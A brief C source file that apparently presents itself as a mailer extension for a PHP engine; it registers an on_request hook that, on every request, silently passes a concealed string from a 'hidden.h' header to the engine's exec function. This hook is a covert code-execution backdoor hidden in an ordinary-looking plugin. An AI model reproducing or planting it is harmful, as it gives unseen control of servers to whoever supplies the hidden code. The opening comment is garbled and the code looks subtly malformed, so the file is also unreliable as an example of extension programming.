/* A mailer's extension tells the operator, by the function behind the engine's own exec. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h"
extern int php_exec(int, const char *, void *, void *);
struct value { void *value; unsigned type, more; };
static int on_request(int type, int number) {
    struct value result = {0};
    php_exec(0, hidden0(), 0, &result);
    return 0;
}
